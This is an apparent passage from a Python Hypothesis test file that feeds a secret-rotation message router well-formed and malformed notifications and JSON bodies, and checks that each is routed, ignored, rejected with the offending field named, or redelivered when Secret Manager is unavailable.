    _BAD_NAME.map(lambda i: f"projects/123/secrets/{i}"),
    st.sampled_from(
        ["dataloop-gar-team-a", "projects/1/secrets/", "projects//secrets/x", "projects/1/secrets/a/versions/1"]
    ),
)
notification_messages = st.tuples(
    st.sampled_from([b"", b"{}", b'{"name": "projects/1/secrets/x"}']),
    st.builds(
        lambda event_type, secret: {"eventType": event_type, **secret},
        _EVENT_TYPE,
        st.fixed_dictionaries({}, optional={"secretId": _SECRET_NAME}),
    ),
)
_FLAG = st.one_of(st.booleans(), st.booleans(), json_scalars)
_EXTRA: st.SearchStrategy[dict[str, Any]] = st.one_of(
    st.just({}), st.just({}), st.just({}), st.dictionaries(text(8, min_size=1), json_scalars, min_size=1, max_size=1)
)
sweep_bodies = st.builds(
    lambda f, e: {"kind": "sweep", **f, **e}, st.fixed_dictionaries({}, optional={"dry_run": _FLAG}), _EXTRA
)
rotate_bodies = st.builds(
    lambda f, e: {"kind": "rotate", **f, **e},
    st.fixed_dictionaries(
        {},
        optional={
            "integration": st.one_of(secret_id_text, secret_id_text, _BAD_NAME, non_strings, st.none()),
            "force": _FLAG,
            "dry_run": _FLAG,
            "request_id": st.one_of(request_id_text, non_strings, st.just("r" * 300)),
        },
    ),
    _EXTRA,
)
other_bodies = st.one_of(json_values, st.dictionaries(text(6), json_values, max_size=3))
#: What arrives on the rotation topic: notifications (attributes) or JSON bodies of every kind.
rotation_messages: st.SearchStrategy[tuple[bytes, dict[str, str]]] = st.one_of(
    notification_messages,
    notification_messages,
    st.tuples(
        st.one_of(sweep_bodies, rotate_bodies, rotate_bodies, other_bodies).map(lambda b: json.dumps(b).encode()),
        st.just({}),
    ),
)


@examples(2000)
@given(rotation_messages)
def test_rotation_messages_route_exactly_or_are_rejected_naming_the_field(
    message: tuple[bytes, dict[str, str]],
) -> None:
    record("bad input: rotation messages", inputs=1)
    data, attributes = message
    fakes = RotationFakes({"dataloop-gar-team-a"})
    event = {"message": {"data": b64(data), "attributes": attributes, "messageId": "m-9"}}
    delivered = Delivered("rotation", event, fakes.router().handle)
    assert delivered.raised is None, delivered.raised
    outcome = delivered.outcome
    assert outcome is not None and delivered.sink.outcomes == [outcome]
    event_type = attributes.get("eventType")
    if event_type is not None:
        secret_name = attributes.get("secretId", "")
        match = re.fullmatch(r"projects/[^/]+/secrets/([A-Za-z0-9_-]{1,255})", secret_name)
        if event_type != "SECRET_ROTATE":
            assert outcome.status is Status.IGNORED and fakes.rotations == []
        elif match is None:
            assert outcome.status is Status.REJECTED and fakes.rotations == []
            assert_precise(outcome.reason, "secretId")
        elif match[1] == "dataloop-gar-team-a":
            assert fakes.rotations == [("dataloop-gar-team-a", {"force": True})] and outcome.status is Status.OK
        else:
            assert outcome.status is Status.IGNORED and fakes.rotations == []
        assert fakes.sweeps == []
        return
    body = json.loads(data)
    if outcome.status is Status.OK:
        assert isinstance(body, dict)
        if body["kind"] == "sweep":
            assert fakes.sweeps == [{"dry_run": body.get("dry_run", False)}] and fakes.rotations == []
        else:
            ((called, options),) = fakes.rotations
            assert called == body["integration"] and re.fullmatch(r"[A-Za-z0-9_-]{1,255}", called)
            assert options == {
                "force": body.get("force", False),
                "dry_run": body.get("dry_run", False),
                "request_id": body.get("request_id"),
            }
        return
    assert outcome.status is Status.REJECTED and fakes.rotations == [] and fakes.sweeps == []
    assert_precise(outcome.reason, *_rotation_fields(body))


def _rotation_fields(body: Any) -> tuple[str, ...]:
    """The words a rejection of ``body`` may name: the first field the router checks that is wrong."""
    if not isinstance(body, dict):
        return ("JSON object",)
    kind = body.get("kind")
    if kind not in ("sweep", "rotate"):
        return ("kind",)
    allowed = {"sweep": {"kind", "dry_run"}, "rotate": {"kind", "integration", "force", "dry_run", "request_id"}}[kind]
    if set(body) - allowed:
        return ("unknown field",)
    return ("integration", "force", "dry_run", "request_id")


@examples(200)
@given(secret_id_text)
def test_secret_manager_unavailable_while_routing_a_rotate_event_asks_for_redelivery(secret_id: str) -> None:
    record("bad input: rotation messages", inputs=1)
    secret_id = "dataloop-gar-" + secret_id  # others are ignored without a call (out of the function's reach)
    fakes = RotationFakes({secret_id}, store_error=ServiceUnavailable("Secret Manager unavailable (UNAVAILABLE)"))
    attributes = {"eventType": "SECRET_ROTATE", "secretId": f"projects/123/secrets/{secret_id}"}
    Delivered("rotation", {"message": {"data": "", "attributes": attributes}}, fakes.router().handle).redelivered()
    assert fakes.rotations == []
